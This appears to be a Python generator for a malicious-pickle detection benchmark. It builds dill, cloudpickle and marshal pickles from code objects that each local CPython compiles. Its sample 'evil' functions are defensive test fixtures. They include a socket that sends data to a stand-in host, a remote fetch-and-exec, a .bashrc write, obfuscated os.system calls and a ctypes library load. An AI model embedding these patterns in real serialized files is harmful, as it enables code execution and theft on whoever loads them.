"""Code objects made by every CPython at hand: Keras Lambda bytecode, dill and cloudpickle functions, bare marshal.

Each interpreter compiles the sources itself and prints the code objects; nothing compiled is run.
"""

from __future__ import annotations

import base64
import json
import os
import shutil
import subprocess
from collections.abc import Iterator
from functools import cache
from pathlib import Path
from typing import Any

from benchmarks.corpus.malicious.asm import C, Encoder, S
from benchmarks.corpus.malicious.cases import Case

EVIL_SOURCES: dict[str, str] = {
    "system": "def f(x):\n    import os\n    os.system('echo toadstone-inert')\n    return x\n",
    "lambda": "f = lambda x: (__import__('os').system('echo toadstone-inert'), x)[1]\n",
    "popen": "def f(x):\n    from subprocess import Popen\n    Popen(['sh', '-c', 'echo toadstone-inert'])\n    return x\n",
    "exec-base64": "def f(x):\n    import base64\n"
    "    exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnZWNobyBpbmVydCcp'))\n    return x\n",
    "socket": "def f(x):\n    import socket\n    s = socket.create_connection(('203.0.113.9', 4444))\n"
    "    s.send(str(x).encode())\n    return x\n",
    "nested": "def f(x):\n    def g():\n        return [__import__('os').popen(c) for c in ['echo inert']]\n"
    "    g()\n    return x\n",
    "getattr": "def f(x):\n    m = getattr(__import__('o' + 's'), 'sys' + 'tem')\n    m('echo toadstone-inert')\n    return x\n",
    "builtins": "def f(x):\n    __builtins__['eval'](\"__import__('os').system('echo inert')\")\n    return x\n",
    "write": "def f(x):\n    with open('/root/.bashrc', 'a') as h:\n        h.write('echo toadstone-inert')\n    return x\n",
    "urllib": "def f(x):\n    import urllib.request as u\n    exec(u.urlopen('http://198.51.100.7/s.py').read())\n    return x\n",
    "ctypes": "def f(x):\n    import ctypes\n    ctypes.CDLL('/tmp/toadstone-inert.so').run()\n    return x\n",
    "try": "def f(x):\n    try:\n        1 / 0\n    except ZeroDivisionError:\n"
    "        __import__('os').system('echo toadstone-inert')\n    return x\n",
}
GOOD_SOURCES: dict[str, str] = {
    "scale": "f = lambda x: x * 2 + 1\n",
    "relu": "def f(x):\n    return [v if v > 0 else 0.0 for v in x]\n",
    "format": "def f(x):\n    name = f'{x!r:>8}'\n    return name.strip()\n",
    "math": "def f(x):\n    import math\n    return math.exp(-x) / (1 + math.exp(-x))\n",
}
_EMIT = r"""
import base64, json, marshal, sys
FIELDS = ("argcount posonlyargcount kwonlyargcount nlocals stacksize flags code consts names varnames filename name qualname "
          "firstlineno lnotab linetable exceptiontable freevars cellvars").split()
def tree(value):
    if hasattr(value, "co_code"):
        return {"code": {k: tree(getattr(value, "co_" + k)) for k in FIELDS if hasattr(value, "co_" + k) and k != "lnotab"},
                "lnotab": tree(value.co_lnotab) if sys.version_info < (3, 10) else None}
    if isinstance(value, bytes):
        return {"bytes": base64.b64encode(value).decode()}
    if isinstance(value, tuple):
        return {"tuple": [tree(item) for item in value]}
    if isinstance(value, frozenset):
        return {"tuple": [tree(item) for item in value]}
    return value
out = {}
for name, source in json.load(sys.stdin).items():
    module = compile(source, "model.py", "exec")
    code = next(item for item in module.co_consts if hasattr(item, "co_code"))
    out[name] = {"tree": tree(code), "marshal": base64.b64encode(marshal.dumps(code)).decode()}
json.dump(out, sys.stdout)
"""
_VERSIONS = tuple(f"3.{minor}" for minor in range(8, 15))


@cache
def interpreters() -> dict[str, str]:
    """Version → interpreter, from ``PATH`` and from pyenv's folder."""
    found: dict[str, str] = {}
    pyenv = Path(os.environ.get("PYENV_ROOT") or Path.home() / ".pyenv") / "versions"
    for version in _VERSIONS:
        beside = sorted(pyenv.glob(f"{version}.*/bin/python")) if pyenv.is_dir() else []
        path = str(beside[-1]) if beside else shutil.which(f"python{version}")
        if path:
            found[version] = path
    return found


@cache
def compiled(version: str) -> dict[str, Any]:
    """Source name → ``{"tree", "marshal"}`` as this CPython compiles it."""
    sources = json.dumps({**EVIL_SOURCES, **{f"good-{key}": text for key, text in GOOD_SOURCES.items()}})
    argv = [interpreters()[version], "-I", "-c", _EMIT]
    answer: dict[str, Any] = json.loads(subprocess.run(argv, input=sources, capture_output=True, text=True, check=True).stdout)
    return answer


def marshalled(version: str, name: str) -> bytes:
    """The marshal bytes of one function's code object."""
    return base64.b64decode(compiled(version)[name]["marshal"])


def _value(node: object, version: str, factory: str) -> object:
    if isinstance(node, dict) and "bytes" in node:
        return base64.b64decode(node["bytes"])
    if isinstance(node, dict) and "tuple" in node:
        return tuple(_value(item, version, factory) for item in node["tuple"])
    if isinstance(node, dict):
        return _code(node, version, factory)
    return node


def _code(node: dict[str, Any], version: str, factory: str) -> object:
    fields = node["code"]
    minor = int(version.partition(".")[2])
    order = [
        "argcount",
        "posonlyargcount",
        "kwonlyargcount",
        "nlocals",
        "stacksize",
        "flags",
        "code",
        "consts",
        "names",
        "varnames",
        "filename",
        "name",
    ]
    order += ["qualname"] if minor >= 11 else []
    order += ["firstlineno"] + (["linetable"] if minor >= 10 else ["lnotab"])
    order += (["exceptiontable"] if minor >= 11 else []) + ["freevars", "cellvars"]
    source = {**fields, "lnotab": node["lnotab"]}
    arguments = tuple(_value(source[key], version, factory) for key in order)
    if factory == "dill":
        return C("dill._dill:_create_code", *((b"",) if minor >= 10 else ()), *arguments)
    return C(C("cloudpickle.cloudpickle:_builtin_type", "CodeType"), *arguments)


def _function(version: str, name: str, factory: str) -> object:
    code = _value(compiled(version)[name]["tree"], version, factory)
    if factory == "dill":
        return C("dill._dill:_create_function", code, {"__name__": "model"}, "f", None, None)
    return C("cloudpickle.cloudpickle:_make_function", code, {"__name__": "model"}, "f", (), ())


def cases() -> Iterator[Case]:
    """Functions saved by value, for every interpreter found."""
    for version in interpreters():
        for name in (*EVIL_SOURCES, *(f"good-{key}" for key in GOOD_SOURCES)):
            good = name.startswith("good-")
            label, payload = ("code-carrying", False) if good else ("malicious", True)
            notes = {"python": version}
            for factory in ("dill", "cloudpickle"):
                model = {"preprocess": _function(version, name, factory), "weights": [0.5, 0.25]}
                data = Encoder(4).dumps(model)
                yield Case(f"{factory}/{version}-{name}.pkl", data, f"{factory}-{name}", label, payload=payload, notes=notes)
            loaded = C(
                "types:FunctionType", C("marshal:loads", marshalled(version, name)), {"__builtins__": S("builtins:__dict__")}
            )
            if not good:
                data = Encoder(4).dumps({"hook": loaded})
                yield Case(f"marshal/{version}-{name}.pkl", data, f"marshal-{name}", label, "GHSA-565g-hwwr-4pp3", payload, notes)
